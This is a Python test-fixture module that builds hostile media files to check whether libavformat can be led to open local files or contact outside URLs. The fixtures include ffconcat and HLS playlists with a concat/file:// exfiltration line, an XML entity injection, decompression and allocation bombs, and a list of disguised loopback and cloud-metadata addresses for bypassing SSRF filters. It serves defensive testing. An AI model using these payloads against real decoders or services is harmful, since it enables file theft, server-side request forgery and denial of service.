"""Files and addresses that try to lead a decoder where it must not go, and watchmen that tell whether it went.

Each trick was seen in the field or follows from what libavformat's readers do. `lure` is a file that nobody may open,
`url` an address that nobody may visit.
"""

from __future__ import annotations

import base64
import ctypes
import os
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Final

Trick = Callable[[str, str], bytes]
"""(lure, url) -> the file's bytes."""

_IN_OPEN: Final = 0x20
_IN_NONBLOCK: Final = 0o4000


class Watchman:
    """Counts how often a file is opened, whoever opens it (inotify)."""

    def __init__(self, path: Path) -> None:
        libc = ctypes.CDLL(None, use_errno=True)
        self._handle: int = libc.inotify_init1(_IN_NONBLOCK)
        assert self._handle >= 0
        assert libc.inotify_add_watch(self._handle, os.fsencode(path), _IN_OPEN) >= 0
        self._seen = 0

    @property
    def opened(self) -> int:
        while True:
            try:
                events = os.read(self._handle, 1 << 16)
            except BlockingIOError:
                return self._seen
            self._seen += len(events) // 16  # an event about the watched file itself carries no name

    def close(self) -> None:
        os.close(self._handle)


# --- boxes of MP4 ----------------------------------------------------------------------------------------------


def box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def full(kind: bytes, *parts: bytes, flags: int = 0) -> bytes:
    return box(kind, struct.pack(">I", flags), *parts)


def track(*, dref: bytes = b"", stsz: bytes = b"", size: tuple[int, int] = (320, 180), codec: bytes = b"avc1") -> bytes:
    """A video track of one picture whose data are where `dref` says."""
    entry = box(
        codec,
        bytes(6) + struct.pack(">H", 1) + bytes(16) + struct.pack(">HH", *size) + bytes(12) + b"\0\1" + bytes(32),
        b"\0\x18\xff\xff",
    )
    stbl = box(
        b"stbl",
        full(b"stsd", struct.pack(">I", 1), entry),
        full(b"stts", struct.pack(">III", 1, 1, 1)),
        full(b"stsc", struct.pack(">IIII", 1, 1, 1, 1)),
        stsz or full(b"stsz", struct.pack(">III", 0, 1, 100)),
        full(b"stco", struct.pack(">II", 1, 40)),
    )
    dinf = box(b"dinf", full(b"dref", struct.pack(">I", 1), dref or full(b"url ", flags=1)))
    handler = full(b"hdlr", bytes(4) + b"vide" + bytes(13))
    minf = box(b"minf", full(b"vmhd", bytes(8), flags=1), dinf, stbl)
    mdia = box(b"mdia", full(b"mdhd", struct.pack(">IIIII", 0, 0, 25, 25, 0)), handler, minf)
    return box(b"trak", full(b"tkhd", bytes(80), flags=3), mdia)


def movie(*parts: bytes) -> bytes:
    header = full(b"mvhd", struct.pack(">IIII", 0, 0, 25, 25) + bytes(80))
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"mdat", bytes(200)) + box(b"moov", header, *parts)


def alias(path: str) -> bytes:
    """A Macintosh alias record in a data reference, as QuickTime files have for media that lie elsewhere."""
    name = path.encode()
    folder, _, file = name.rpartition(b"/")
    record = bytes(4) + struct.pack(">HH", 150 + 4 + len(name) + 8, 2) + b"\0\0" + b"\x04root" + bytes(23)
    record += bytes(12) + bytes([min(len(file), 63)]) + file[:63].ljust(63, b"\0") + bytes(16) + b"\0\1\0\1" + bytes(16)
    record += struct.pack(">hh", 2, len(name)) + name + (b"\0" if len(name) % 2 else b"")
    record += struct.pack(">hh", 0, len(folder)) + folder + struct.pack(">hh", -1, 0)
    return full(b"alis", record)


def gab2(playlist: bytes) -> bytes:
    """An AVI file whose subtitle track is a playlist (GAB2), as in the attacks on video hosts in 2016."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return kind + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")

    def stream(kind: bytes, handler: bytes, form: bytes) -> bytes:
        header = kind + handler + bytes(12) + struct.pack("<IIIII", 1, 25, 0, 10, 1000) + bytes(16)
        return chunk(b"LIST", b"strl" + chunk(b"strh", header) + chunk(b"strf", form))

    picture = struct.pack("<IiiHHIIiiII", 40, 320, 180, 1, 24, 0x34363248, 0, 0, 0, 0, 0)
    subtitles = b"GAB2\0" + struct.pack("<HI", 2, 4) + b"x\0\0\0" + struct.pack("<HI", 4, len(playlist)) + playlist
    main = struct.pack("<IIIIIIIIII", 40_000, 0, 0, 16, 10, 0, 2, 0, 320, 180) + bytes(16)
    header = chunk(b"avih", main) + stream(b"vids", b"H264", picture) + stream(b"txts", b"\0\0\0\0", b"")
    data = b"movi" + chunk(b"01tx", subtitles) + chunk(b"00dc", bytes(100))
    return chunk(b"RIFF", b"AVI " + chunk(b"LIST", b"hdrl" + header) + chunk(b"LIST", data))


# --- the tricks ------------------------------------------------------------------------------------------------


def text(pattern: str) -> Trick:
    return lambda lure, url: pattern.format(lure=lure, url=url, name=Path(lure).name).encode()


def hls(*lines: str, end: str = "#EXT-X-ENDLIST") -> Trick:
    return text("\n".join(["#EXTM3U", "#EXT-X-TARGETDURATION:1", *lines, end, ""]))


MATROSKA: Final = bytes.fromhex("1a45dfa38b4282886d6174726f736b61")
SEGMENT: Final = "#EXTINF:1,\n"
FILES: Final[dict[str, Trick]] = {
    "concat-name.mp4": text("ffconcat version 1.0\nfile {name}\n"),
    "concat-path.mkv": text("ffconcat version 1.0\nfile '{lure}'\n"),
    "concat-url.mp4": text("ffconcat version 1.0\nfile {url}/a.mp4\n"),
    "concat-file-url.mp4": text("ffconcat version 1.0\nfile file://{lure}\n"),
    "concat-options.mp4": text(
        "ffconcat version 1.0\nfile '{lure}'\noption safe 0\noption protocol_whitelist file,http,tcp\n"
        "option format_whitelist ALL\n"
    ),
    "concat-stream.mp4": text("ffconcat version 1.0\nstream\nexact_stream_id 1\nfile '{lure}'\ninpoint 0\n"),
    "concat.ffconcat": text("file '{lure}'\n"),
    "concat-subfile.mp4": text("ffconcat version 1.0\nfile 'subfile,,start,0,end,64,,:{lure}'\n"),
    "concat-concat.mp4": text("ffconcat version 1.0\nfile 'concat:{lure}|{lure}'\n"),
    "concat-async.mp4": text("ffconcat version 1.0\nfile 'async:file:{lure}'\n"),
    "concat-cache.mp4": text("ffconcat version 1.0\nfile 'cache:file:{lure}'\n"),
    "concat-crypto.mp4": text(
        "ffconcat version 1.0\nfile 'crypto:file:{lure}'\noption decryption_key 00000000000000000000000000000000\n"
        "option decryption_iv 00000000000000000000000000000000\n"
    ),
    "hls-path.m3u8": hls(SEGMENT + "{lure}"),
    "hls-name.mp4": hls(SEGMENT + "{name}"),
    "hls-url.ts": hls(SEGMENT + "{url}/a.ts"),
    "hls-file-url.ts": hls(SEGMENT + "file://{lure}"),
    "hls-localhost.ts": hls(SEGMENT + "file://localhost{lure}"),
    "hls-exfiltrates.avi": hls(SEGMENT + "concat:{url}/header?|file://{lure}"),
    "hls-subfile.ts": hls(SEGMENT + "subfile,,start,0,end,64,,:{lure}"),
    "hls-crypto.ts": hls(SEGMENT + "crypto+file:{lure}"),
    "hls-async.ts": hls(SEGMENT + "async:cache:file:{lure}"),
    "hls-data.ts": hls(SEGMENT + "data:video/mp2t;base64,R0AAEAAAAA=="),
    "hls-key-file.m3u8": hls('#EXT-X-KEY:METHOD=AES-128,URI="file://{lure}"', SEGMENT + "{name}"),
    "hls-key-url.m3u8": hls('#EXT-X-KEY:METHOD=AES-128,URI="{url}/key",IV=0x1', SEGMENT + "{name}"),
    "hls-session-key.m3u8": hls('#EXT-X-SESSION-KEY:METHOD=AES-128,URI="{url}/key"', SEGMENT + "{name}"),
    "hls-map.m3u8": hls('#EXT-X-MAP:URI="{lure}"', SEGMENT + "{url}/a.m4s"),
    "hls-variant.mp4": hls("#EXT-X-STREAM-INF:BANDWIDTH=1", "{url}/b.m3u8"),
    "hls-variant-file.mp4": hls("#EXT-X-STREAM-INF:BANDWIDTH=1", "file://{lure}"),
    "hls-nested-data.mp4": lambda lure, url: hls(
        "#EXT-X-STREAM-INF:BANDWIDTH=1",
        "data:application/x-mpegurl;base64," + base64.b64encode(hls(SEGMENT + "file://{lure}")(lure, url)).decode(),
    )(lure, url),
    "hls-audio.mp4": hls(
        '#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{url}/a.m3u8"', SEGMENT + "{name}"
    ),
    "hls-part.mp4": hls('#EXT-X-PART:DURATION=1,URI="{url}/p.ts"', '#EXT-X-PRELOAD-HINT:TYPE=PART,URI="{url}/h.ts"'),
    "hls-behind-a-box.mp4": lambda lure, url: box(b"free", bytes(8)) + hls(SEGMENT + "{lure}")(lure, url),
    "hls-behind-mpegts.ts": lambda lure, url: (b"\x47\x1f\xff\x10" + b"\xff" * 184) * 3
    + hls(SEGMENT + "{url}/a.ts")(lure, url),
    "hls-in-subtitles.avi": lambda lure, url: gab2(hls(SEGMENT + "concat:{url}/header?|file://{lure}")(lure, url)),
    "hls-in-id3.mp3": lambda lure, url: b"ID3\4\0\0\0\0\0\x0a" + bytes(10) + hls(SEGMENT + "{url}/a.ts")(lure, url),
    "dash-url.mpd": text(
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static">'
        '<Period duration="PT1S"><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">'
        '<BaseURL>{url}/a.mp4</BaseURL><SegmentBase indexRange="0-10"/></Representation></AdaptationSet></Period></MPD>'
    ),
    "dash-file.mp4": text(
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet mimeType="video/mp4">'
        '<Representation id="1"><BaseURL>file://{lure}</BaseURL></Representation></AdaptationSet></Period></MPD>'
    ),
    "dash-entity.mpd": text(
        '<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{lure}"><!ENTITY y SYSTEM "{url}/e">]>'
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>&x;&y;</BaseURL></Period></MPD>'
    ),
    "smooth.ism": text('<smil><body><switch><video src="{lure}"/><video src="{url}/v"/></switch></body></smil>'),
    "smooth.ismc": text('<SmoothStreamingMedia><StreamIndex Url="{url}/Q({{bitrate}})"/></SmoothStreamingMedia>'),
    "imf.xml": text(
        '<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:1</Id>{lure}'
        "</CompositionPlaylist>"
    ),
    "session.sdp": text(
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{url}\nm=video 5004 RTP/AVP 96\n"
        "a=rtpmap:96 H264/90000\n"
    ),
    "session.mp4": text("v=0\r\no=- 0 0 IN IP4 0\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video 5004 RTP/AVP 31\r\n"),
    "list.pls": text("[playlist]\nNumberOfEntries=2\nFile1={url}/a.mp3\nFile2={lure}\n"),
    "list.asx": text('<asx version="3.0"><entry><ref href="{url}/a.asf"/></entry></asx>'),
    "list.asf": text("[Reference]\r\nRef1={url}/a.asf\r\nRef2={lure}\r\n"),
    "list.xspf": text("<playlist><trackList><track><location>file://{lure}</location></track></trackList></playlist>"),
    "list.ram": text("{url}/a.rm\nfile://{lure}\n"),
    "list.smil": text('<smil><body><video src="{url}/a.mp4"/></body></smil>'),
    "rtsptext.mov": text("RTSPtextRTSP://127.0.0.1/{lure}"),
    "script.avs": text('AviSource("{lure}")\n'),
    "script.vpy": text('import vapoursynth\nopen("{lure}").read()\n'),
    "graph.mp4": text("movie='{lure}'[out0]\n"),
    "metadata.mp4": text(";FFMETADATA1\ntitle={lure}\n"),
    "subtitles.idx": text("# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\nfilepos: 0\n"),
    "subtitles.ass": text("[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {lure}\n[Events]\n"),
    "picture%03d.jpg": lambda lure, url: b"\xff\xd8\xff\xe0" + bytes(20),
    "drawing.svg": text('<svg xmlns="http://www.w3.org/2000/svg"><image href="{lure}"/><image href="{url}"/></svg>'),
    "reference-url.mov": lambda lure, url: movie(track(dref=full(b"url ", url.encode() + b"/a.mov\0"))),
    "reference-file.mov": lambda lure, url: movie(track(dref=full(b"url ", f"file://{lure}\0".encode()))),
    "reference-name.mov": lambda lure, url: movie(track(dref=full(b"urn ", b"file\0" + lure.encode() + b"\0"))),
    "reference-alias.mov": lambda lure, url: movie(track(dref=alias(lure))),
    "reference-movie.mov": lambda lure, url: movie(
        box(b"rmra", box(b"rmda", full(b"rdrf", b"url " + struct.pack(">I", len(url) + 6) + url.encode() + b"/r.mov")))
    ),
    "reference-movie-alias.mov": lambda lure, url: movie(
        box(b"rmra", box(b"rmda", full(b"rdrf", b"alis" + struct.pack(">I", len(lure)) + lure.encode())))
    ),
}  # fmt: skip
BESIDE: Final = ("subtitles.sub", "picture000.jpg")
"""Names that some of the files lead to without naming them."""
BELIEVED: Final = {"hls": "hls", "concat": "concat"}
"""What a file whose name begins so is believed to be, whatever its bytes and its ending are."""
_NONE: Final = "libav has no reader for it"
_BUILT: Final = "the libav that PyAV brings is built without a reader for it"
_HLS: Final = "the reader of HLS opens files, HTTP and data alone; others are led to by concat-*"
_HEAD: Final = "the reader wants its own words at the very beginning"
_FLAT: Final = "it is read, and what it names is taken for text"
_REFERENCE: Final = "of references, libav follows a Macintosh alias alone"
SHUT: Final = {
    "hls-localhost.ts": "libav knows no host in the address of a file", "hls-exfiltrates.avi": _HLS,
    "hls-subfile.ts": _HLS, "hls-crypto.ts": _HLS, "hls-async.ts": _HLS, "hls-data.ts": "what is in it leads nowhere",
    "hls-part.mp4": "libav knows no parts of segments", "hls-behind-a-box.mp4": _HEAD, "hls-behind-mpegts.ts": _HEAD,
    "hls-in-subtitles.avi": "of subtitles in AVI, libav reads SubRip and ASS alone", "hls-in-id3.mp3": _HEAD,
    "dash-url.mpd": _BUILT, "dash-file.mp4": _BUILT, "dash-entity.mpd": _BUILT, "imf.xml": _BUILT,
    "script.avs": _BUILT, "script.vpy": _BUILT, "drawing.svg": _BUILT, "smooth.ism": _NONE, "smooth.ismc": _NONE,
    "session.sdp": "it has the reader listen, and visit nobody", "session.mp4": "as session.sdp", "list.pls": _NONE,
    "list.asx": _NONE, "list.asf": _NONE, "list.xspf": _NONE, "list.ram": _NONE, "list.smil": _NONE,
    "rtsptext.mov": _NONE, "graph.mp4": "a graph is read from an address, and not from a file", "metadata.mp4": _FLAT,
    "subtitles.ass": _FLAT, "reference-url.mov": _REFERENCE, "reference-file.mov": _REFERENCE,
    "reference-name.mov": _REFERENCE, "reference-movie.mov": _REFERENCE, "reference-movie-alias.mov": _REFERENCE,
}  # fmt: skip
"""Which of the files do not lead even a reader astray that trusts everything, and why. Kept for libavs to come."""


def nested() -> bytes:
    inner = box(b"moov")
    for _ in range(3000):
        inner = struct.pack(">I4s", 8 + len(inner), b"udta") + inner
    return HEAD + inner


def unfolding() -> bytes:
    """300 MB of header, deflated."""
    plain = box(b"moov", full(b"mvhd", bytes(96)), box(b"udta", bytes(300 << 20)))
    packed = box(b"cmvd", struct.pack(">I", len(plain)), zlib.compress(plain, 9))
    return HEAD + box(b"moov", box(b"cmov", box(b"dcom", b"zlib"), packed))


def programmes(number: int) -> bytes:
    """A packet of MPEG-TS that announces 40 more programmes."""
    first = 1 + number * 40
    table = b"".join(struct.pack(">HH", first + i, 0xE000 | (32 + (first + i) % 8000)) for i in range(40))
    section = struct.pack(">BBHHBBB", 0, 0, 0xB000 | (9 + len(table)), 1, 0xC1, 0, 0) + table
    return (b"\x47\x40\0" + bytes([0x10 | number % 16]) + section).ljust(188, b"\xff")


HEAD: Final = box(b"ftyp", b"isom\0\0\0\0isom")
BOMBS: Final[dict[str, Callable[[], bytes]]] = {
    "pictures-of-a-field.mov": lambda: movie(track(size=(65_535, 65_535), codec=b"rle ")),
    "four-thousand-million-samples.mov": lambda: movie(
        track(stsz=full(b"stsz", struct.pack(">III", 1, 0xFFFFFFFF, 0)))
    ),
    "a-table-of-sixteen-gigabytes.mov": lambda: movie(track(stsz=full(b"stsz", struct.pack(">II", 0, 0xFFFFFFFE)))),
    "boxes-in-boxes.mp4": nested,
    "a-header-that-unfolds.mov": unfolding,
    "twenty-thousand-tracks.mov": lambda: movie(*[track()] * 20_000),
    "a-box-of-all-bytes.mp4": lambda: HEAD + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1),
    "an-element-of-all-bytes.mkv": lambda: MATROSKA + bytes.fromhex("1853806701ffffffffffffff") * 2,
    "elements-without-length.mkv": lambda: MATROSKA + bytes.fromhex("18538067ff1549a966ff") * 2000,
    "a-programme-of-everything.ts": lambda: b"".join(programmes(number) for number in range(1600)),
    "frames-of-nothing.mp3": lambda: b"\xff\xfb\x90\x00" * 50_000,
}
"""Small files that promise, or unfold into, more than anyone should believe."""

LOOPBACKS: Final = (
    "127.0.0.1", "127.1", "127.0.1", "0177.0.0.1", "0x7f.0.0.1", "0x7f000001", "2130706433", "017700000001",
    "localhost", "LocalHost", "localhost.", "0", "0.0.0.0", "127.0.0.1.", "[::1]", "[::]", "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:0001]", "[::127.0.0.1]", "[64:ff9b::127.0.0.1]", "[2002:7f00:1::]",
    "[fe80::1%25lo]", "user@127.0.0.1", "user:pass@127.0.0.1", "example.com@127.0.0.1", "example.com%40@127.0.0.1",
    "127.0.0.1%00.example.com", "127%2e0%2e0%2e1", "127。0。0。1", "①②⑦.⓪.⓪.①", "１２７.0.0.1", "ｌocalhost",
    "127.0.0.1%2f@example.invalid", "169.254.169.254", "[fd00:ec2::254]",
)  # fmt: skip
"""Ways to write an address of this machine, or of what tells secrets in a cloud."""
